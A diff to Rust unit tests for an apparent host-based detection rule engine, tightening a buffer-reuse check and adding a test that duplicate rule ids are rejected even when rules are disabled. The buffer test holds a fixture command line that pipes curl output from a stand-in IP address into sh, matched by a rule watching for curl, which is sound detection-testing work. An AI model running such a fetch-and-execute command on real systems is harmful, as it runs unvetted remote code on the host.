@@ -4,6 +4,7 @@
 use std::path::Path;
 use std::sync::Arc;
 
+use super::fields::Scratch;
 use super::*;
 use crate::model::event::{Body, Creds, Event, ExecBody, FileBody, FileOp, FileTruncation, Image};
 use crate::model::proctable::{Origin, Process};
@@ -399,22 +400,42 @@ fn watched_reads_by_flags_and_watched_path() {
 #[test]
 fn matching_reuses_its_buffers() {
     // The command line is assembled into the scratch buffer; once it has
-    // grown, later matches do not allocate (capacity stays).
+    // grown, later matches write into the same allocation. Warmed by a
+    // longer command line first, so that a buffer allocated afresh (or
+    // shrunk) for the shorter one would show as a smaller capacity or a
+    // moved pointer; the same length alone would not show it.
     let s = set(
         "[\"exec\"]",
         "[[rules.all]]\nfield = \"process.command_line\"\ncontains = \"curl\"\n",
     );
     let ev = shell_exec();
+    let mut long = shell_exec();
+    long.process = Some(process(
+        31,
+        "/bin/sh",
+        &["sh", "-c", &"curl ".repeat(64)],
+        None,
+    ));
     let mut scratch = Scratch::default();
     let mut out = Vec::with_capacity(4);
-    s.matches(&ev, &mut scratch, &mut out);
-    let cap = scratch.command_line(&ev).unwrap().len();
+    s.matches(&long, &mut scratch, &mut out);
+    assert_eq!(out, [0]);
+    let cap = scratch.capacity();
+    assert!(cap >= "sh -c ".len() + 5 * 64, "{cap}");
+    let ptr = scratch.command_line(&long).unwrap().as_ptr();
+    let out_ptr = out.as_ptr();
     for _ in 0..100 {
         out.clear();
         s.matches(&ev, &mut scratch, &mut out);
         assert_eq!(out, [0]);
+        assert_eq!(scratch.capacity(), cap);
+        assert_eq!(scratch.command_line(&ev).unwrap().as_ptr(), ptr);
+        assert_eq!(out.as_ptr(), out_ptr);
     }
-    assert_eq!(scratch.command_line(&ev).unwrap().len(), cap);
+    assert_eq!(
+        scratch.command_line(&ev).unwrap(),
+        "sh -c curl http://203.0.113.5/x | sh"
+    );
 }
 
 fn error_of(text: &str) -> RuleError {
@@ -568,6 +589,53 @@ fn directories_load_sorted_and_reject_duplicates() {
     )
     .unwrap();
     assert_eq!(RuleSet::load_dir(dir.path()).unwrap().len(), 2);
+}
+
+/// Ids are unique whether or not the rules are enabled: enabling the
+/// disabled copy later must not be what reveals the clash (and then fail
+/// a reload), and `rules check` must show it now.
+#[test]
+fn a_disabled_rule_still_claims_its_id() {
+    let rule = |id: &str, enabled: bool| {
+        format!(
+            "[[rules]]\nid = \"{id}\"\nname = \"N\"\nseverity = \"low\"\nenabled = {enabled}\n\
+             events = [\"exec\"]\n[[rules.all]]\nfield = \"process.name\"\nequals = \"x\"\n"
+        )
+    };
+    let dup = |file: &Path, first: &Path| RuleError {
+        file: file.to_path_buf(),
+        rule: Some("one".into()),
+        key: Some("id".into()),
+        line: None,
+        reason: format!("duplicate id, first defined in {}", first.display()),
+    };
+    for (a_on, c_on) in [(true, false), (false, true), (false, false)] {
+        let dir = tempfile::tempdir().unwrap();
+        let (a, c) = (dir.path().join("a.toml"), dir.path().join("c.toml"));
+        std::fs::write(&a, rule("one", a_on)).unwrap();
+        std::fs::write(&c, rule("one", c_on)).unwrap();
+        let e = RuleSet::load_dir(dir.path()).unwrap_err();
+        assert_eq!(e.0, [dup(&c, &a)], "a enabled {a_on}, c enabled {c_on}");
+    }
+    // Two in one file.
+    let dir = tempfile::tempdir().unwrap();
+    let a = dir.path().join("a.toml");
+    std::fs::write(&a, rule("one", true) + &rule("one", false)).unwrap();
+    let e = RuleSet::load_dir(dir.path()).unwrap_err();
+    assert_eq!(e.0, [dup(&a, &a)]);
+    // A built-in's id, disabled.
+    std::fs::write(&a, rule("rg-persist-cron", false)).unwrap();
+    let e = RuleSet::load_dir(dir.path()).unwrap_err();
+    assert_eq!(
+        e.0,
+        [RuleError {
+            file: a.clone(),
+            rule: Some("rg-persist-cron".into()),
+            key: Some("id".into()),
+            line: None,
+            reason: "is the id of a built-in detection".into(),
+        }]
+    );
 }
 
 #[test]
